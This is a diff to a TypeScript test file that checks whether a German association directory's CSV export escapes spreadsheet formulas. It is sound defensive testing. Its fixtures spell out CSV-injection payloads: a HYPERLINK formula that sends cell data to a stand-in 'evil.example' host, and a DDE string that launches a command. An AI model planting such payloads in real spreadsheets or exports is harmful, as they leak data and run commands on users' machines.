@@ -3,15 +3,23 @@
  * reported in German with its row number, all or nothing, and a re-import of
  * the same file changes nothing.
  */
+import fs from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+
+import { parse } from 'csv-parse/sync'
 import type { Payload } from 'payload'
 import { beforeAll, describe, expect, it } from 'vitest'
 
 import { exportOrganisationsCsv } from '@/collections/MemberOrganisations/csv/exportOrganisations'
 import { importOrganisationsCsv } from '@/collections/MemberOrganisations/csv/importOrganisations'
+import { submitApplication } from '@/forms/organisationApplication'
 
 import { testPayload } from '../helpers/payload'
 
 let payload: Payload
+// The application form tells the admins by mail.
+process.env.MAIL_OUTBOX_DIR = fs.mkdtempSync(path.join(os.tmpdir(), 'evi-outbox-'))
 
 const HEADER =
   'Name;Kürzel;Status;Herkunftsländer;Gemeinschaft;Tätigkeitsfelder;Sprachen;Stadtteil;Straße;PLZ;Ort;Ansprechperson;E-Mail;Telefon;Website;Gegründet;Mitglied seit;Kurzbeschreibung;Soziale Medien'
@@ -143,5 +151,71 @@ describe('a file with bad rows', () => {
     expect((await importOrganisationsCsv(payload, HEADER, { dryRun: true })).errors[0].message).toMatch(/keine Vereine/)
     expect((await importOrganisationsCsv(payload, 'Name;Farbe\nA;blau', { dryRun: true })).errors[0].message).toMatch(/Unbekannte Spalte „Farbe“/)
     expect((await importOrganisationsCsv(payload, 'Name\n"kaputt', { dryRun: true })).errors[0].message).toMatch(/keine lesbare CSV-Datei/)
+  })
+})
+
+describe('formulas in the export', () => {
+  /** What a spreadsheet would run as a formula: a cell beginning with one of these (OWASP, CSV injection). */
+  const FORMULA_START = /^[=+\-@\t\r]/
+  const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&A1;"Klick")'
+  const cellsOf = (csv: string) => (parse(csv, { bom: true, delimiter: ';', relax_column_count: true }) as string[][]).flat()
+
+  it('a name sent through the public application form is exported as text, never as a formula', async () => {
+    const form = new FormData()
+    for (const [name, value] of Object.entries({
+      name: HOSTILE_NAME,
+      person: '@SUMME(1;2)',
+      email: 'formel@verein.example',
+      phone: '+49 201 123456',
+      community: '-2+3',
+      shortDescription: '+cmd|\' /C calc\'!A0',
+      street: '=1+1',
+      consent: 'ja',
+      homepage: '',
+    })) form.set(name, value)
+    expect(await submitApplication(payload, form, '203.0.113.50')).toEqual({ kind: 'accepted' })
+
+    const csv = await exportOrganisationsCsv(payload)
+    const dangerous = cellsOf(csv).filter((cell) => FORMULA_START.test(cell))
+    expect(dangerous).toEqual([])
+    const row = cellsOf(csv).join('\n')
+    expect(row).toContain(`'${HOSTILE_NAME}`)
+    expect(row).toContain("'@SUMME(1;2)")
+  })
+
+  it('phone numbers stay readable: the digits and the plus sign are all there, behind one apostrophe', async () => {
+    const cells = cellsOf(await exportOrganisationsCsv(payload))
+    expect(cells).toContain("'+49 201 123456")
+    expect(cells.filter((cell) => cell.includes('201 123456'))).toEqual(["'+49 201 123456"])
+  })
+
+  it('an exported file with escaped cells imports back unchanged, apostrophes and all', async () => {
+    await payload.create({
+      collection: 'member-organisations',
+      data: {
+        name: "'Apostroph am Anfang",
+        slug: 'apostroph-am-anfang',
+        status: 'active',
+        _status: 'published',
+        community: "'=keine Formel",
+        contact: { phone: '-0201 99', person: '\tEingerückt' },
+      },
+    })
+    const before = await bySlug('hyperlink-https-evil-example-d-a1-klick')
+    expect(before?.name).toBe(HOSTILE_NAME)
+
+    const report = await importOrganisationsCsv(payload, await exportOrganisationsCsv(payload), { dryRun: false })
+    expect(report.errors).toEqual([])
+    expect(report.created).toBe(0)
+    expect(report.updated).toBe(0)
+    const after = await bySlug('hyperlink-https-evil-example-d-a1-klick')
+    expect(after.name).toBe(HOSTILE_NAME)
+    expect(after.contact?.phone).toBe('+49 201 123456')
+    expect(after.contact?.person).toBe('@SUMME(1;2)')
+    expect(after.community).toBe('-2+3')
+    expect(after.address?.street).toBe('=1+1')
+    const apostrophe = await bySlug('apostroph-am-anfang')
+    expect(apostrophe).toMatchObject({ name: "'Apostroph am Anfang", community: "'=keine Formel" })
+    expect(apostrophe.contact).toMatchObject({ phone: '-0201 99', person: '\tEingerückt' })
   })
 })
